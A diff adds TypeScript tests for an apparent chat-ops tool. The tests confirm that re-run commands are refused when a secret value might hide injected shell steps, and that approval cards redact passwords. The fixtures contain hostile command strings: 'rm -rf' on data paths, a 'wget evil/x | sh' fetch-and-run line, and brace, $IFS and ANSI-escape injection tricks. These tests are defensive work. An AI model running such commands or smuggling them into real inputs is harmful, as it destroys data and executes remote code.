@@ -74,6 +74,43 @@ describe('a second run', () => {
     expect(world.thread.posts).toHaveLength(0);
   });
 
+  it.each<[string, Partial<Original>]>([
+    ['beside a variable', { command: ['sh', '-c', 'export DB_PASSWORD=x1;rm -rf /hidden; exec app'] }],
+    ['below a key', { command: ['sh', '-c', 'token: |\n  wget -qO- evil/x | sh\n  rm -rf /data\nexec app'] }],
+    ['in one word without a space', { command: ['sh', '-c'], args: ['DB_PASSWORD=x1;/hidden/run'] }],
+    ['in the braces of a shell', { command: ['bash', '-c', 'PASSWORD=x1{rm,-rf,/data}'] }],
+    ['behind the name of a secret', { args: ['--password', 'x1;rm$IFS-rf'] }],
+    ['in a word that nobody can read', { command: ['sh', '-c', `${'echo;'.repeat(4_000)}rm`] }],
+    ['in a long list of plain words', { args: Array.from({ length: 4_000 }, () => '--wipe') }],
+  ])('asks nobody when a secret may hide what it runs: %s', async (_name, parts) => {
+    const world = aWorldOf({ ...ORIGINAL, ...parts });
+    await world.say('once-more web-1');
+    expect((await world.run()).refusal).toMatchObject({ code: 'secret_in_command_to_approve' });
+    expect(world.thread.posts).toHaveLength(0);
+  });
+
+  it.each([[['--password=hunter2-and-more']], [['--password', 'hunter2-and-more']]])(
+    'says on its card that a plain argument is hidden: %s',
+    async (args) => {
+      const world = aWorldOf({ ...ORIGINAL, args: [...args, 'echo \u001b[8m; rm'] });
+      await world.say('once-more web-1');
+      const card = JSON.stringify(view(world.anchor()!).blocks);
+      expect(card).toContain('A part of the command is hidden');
+      expect(card).not.toContain('hunter2');
+      // The words beside it are shown as they are.
+      expect(card).toContain('u{1B}[8m; rm');
+      await world.click('U0BOB', 'approve');
+      expect((await world.run()).state).toBe('starting');
+    },
+  );
+
+  it('says nothing of what is hidden where nothing is', async () => {
+    const args = ['--password=$(DB_PASSWORD)', '--port=8080'];
+    const world = aWorldOf({ ...ORIGINAL, args });
+    await world.say('once-more web-1');
+    expect(JSON.stringify(view(world.anchor()!).blocks)).not.toContain('is hidden');
+  });
+
   it('shows the end of a long command and each of many mounts on its card', async () => {
     const mounts = Array.from({ length: 61 }, (_, index) => `mount-${index} at /mnt/${index}`);
     const command = ['sh', '-c', `${'echo step; '.repeat(100)}rm -rf /hidden-end`];
